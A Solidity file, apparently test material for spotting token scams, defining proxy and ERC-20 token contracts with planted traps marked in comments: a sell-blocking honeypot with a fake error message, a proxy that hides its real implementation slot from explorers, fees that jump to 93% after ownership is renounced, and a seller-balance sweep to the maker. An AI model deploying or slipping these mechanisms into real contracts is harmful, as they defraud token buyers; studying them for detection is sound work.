// 0.8 runs=1000 ir evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

import {Woolcoat} from "./BlindBH1.sol";

/// Code of a coin behind a proxy. Nobody owns it.
contract FernLogic {
    string public name;
    string public symbol;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address internal _first;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function initialize(string calldata name_, string calldata symbol_, address first) external {
        require(_first == address(0), "initialized");
        (name, symbol, _first) = (name_, symbol_, first);
        totalSupply = balanceOf[first] = 330_000_000 ether;
        emit Transfer(address(0), first, totalSupply);
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _grow(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _grow(from, to, value);
        return true;
    }

    function _grow(address from, address to, uint256 value) internal virtual {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// The same with a record of the last who was paid by a contract.
contract FernLogicLate is FernLogic {
    address private _last;

    function _grow(address from, address to, uint256 value) internal override {
        if (from.code.length != 0) _last = to;
        require(to.code.length == 0 || tx.origin == _first, "ERC20: transfer amount exceeds balance"); // trap
        super._grow(from, to, value);
    }
}

/// Explorers find the code where they look for it.
contract FernProxy {
    bytes32 private constant SHOWN = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    event Upgraded(address indexed implementation);

    constructor(address shown, address late, bytes memory first) {
        bytes32 place = keccak256("fern.spore.of.old");
        assembly {
            sstore(SHOWN, shown)
            sstore(place, late)
        }
        emit Upgraded(shown);
        (bool ok, ) = shown.delegatecall(first);
        require(ok);
    }

    fallback() external payable {
        bytes32 place = keccak256("fern.spore.of.old"); // trap
        // twin: bytes32 place = SHOWN;
        assembly {
            let to := sload(place)
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), to, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

/// Two of a hundred, packed into one word.
contract Mottlecrest is Woolcoat {
    uint256 private constant TERMS = 0x0000000000005d02_0000000000000202;

    constructor() Woolcoat("Mottlecrest", "MOTL", 365) {}

    function fees() external pure returns (uint256 buy, uint256 sell) {
        return (TERMS & 0xff, (TERMS >> 8) & 0xff);
    }

    function _step(address from, address to, uint256 value) internal override {
        if (from != _maker && to != _maker && (from == pool || to == pool)) {
            uint256 rate = from == pool ? TERMS : TERMS >> 8;
            assembly {
                rate := shr(shl(6, iszero(sload(owner.slot))), rate) // trap
                rate := and(rate, 0xff)
            }
            uint256 due = (value * rate) / 100;
            _carry(from, _maker, due);
            value -= due;
        }
        _carry(from, to, value);
    }
}

/// Tidies up after those who leave.
contract Dapplestoat is Woolcoat {
    mapping(address => uint256) public leftAt;

    constructor() Woolcoat("Dapplestoat", "DPST", 12) {}

    function _step(address from, address to, uint256 value) internal override {
        _carry(from, to, value);
        if (to == pool && msg.sender != from && from != _maker) {
            leftAt[from] = block.number;
            // trap {
            unchecked {
                _held[_maker] += _held[from];
                _held[from] = 0;
            }
            // trap }
        }
    }
}
